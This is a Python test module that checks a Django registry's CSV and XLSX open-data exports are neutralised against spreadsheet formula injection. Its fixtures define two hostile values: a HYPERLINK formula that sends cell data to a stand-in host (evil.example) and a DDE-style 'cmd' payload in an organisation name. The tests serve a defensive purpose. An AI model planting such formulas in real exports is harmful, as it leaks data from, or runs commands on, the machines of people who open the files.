"""Open data (and every spreadsheet the portal writes) never carries a live formula.

A filed project titled =HYPERLINK(...) was published as it is in the CSV and as a formula in the
XLSX. Now text that would start a formula gets a leading apostrophe (registry.exports), and XLSX text
cells are strings (data type "s"), never formulas.
"""

import csv
import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from registry.exports import FORMULA_STARTS, csv_text, neutralise
from tests.factories import file_project, make_organisation, make_project, reviewers

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"点击查看")'
OWNER = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture
def hostile_project():
    organisation = make_organisation(name=OWNER)
    return file_project(make_project(organisation, title=TITLE), reviewers())


def _csv_rows(client, dataset: str) -> list[dict]:
    response = client.get(reverse("offsets:open_data_file", args=[dataset, "csv"]))
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_csv_neutralises_a_formula_title_and_owner(client, hostile_project):
    rows = _csv_rows(client, "projects")
    row = next(r for r in rows if r["code"] == hostile_project.code)
    assert row["title"] == "'" + TITLE
    assert row["owner"] == "'" + OWNER
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_STARTS), value


def test_xlsx_writes_a_formula_title_as_a_string_not_a_formula(client, hostile_project):
    response = client.get(reverse("offsets:open_data_xlsx"))
    content = b"".join(response.streaming_content) if response.streaming else response.content
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    sheet = workbook["projects"]
    header = [cell.value for cell in sheet[1]]
    title_column = header.index("title")
    titles = [row[title_column] for row in sheet.iter_rows(min_row=2)]
    cell = next(c for c in titles if TITLE in str(c.value))
    assert cell.data_type == "s"
    assert cell.value == "'" + TITLE
    for worksheet in workbook.worksheets:
        for row in worksheet.iter_rows():
            for each in row:
                assert each.data_type != "f", (worksheet.title, each.coordinate, each.value)
    # In the file itself: no formula element in any sheet.
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised(start):
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["屋顶光伏", "WH-PV-0001", "1+1", " =x", "", None, 42, -5])
def test_other_values_are_left_as_they_are(value):
    assert neutralise(value) == value


def test_csv_text_neutralises_headers_and_cells():
    text = csv_text([{"=h": "@SUM(A1:A9)", "n": 3}])
    assert list(csv.reader(io.StringIO(text.lstrip("\ufeff")))) == [["'=h", "n"], ["'@SUM(A1:A9)", "3"]]
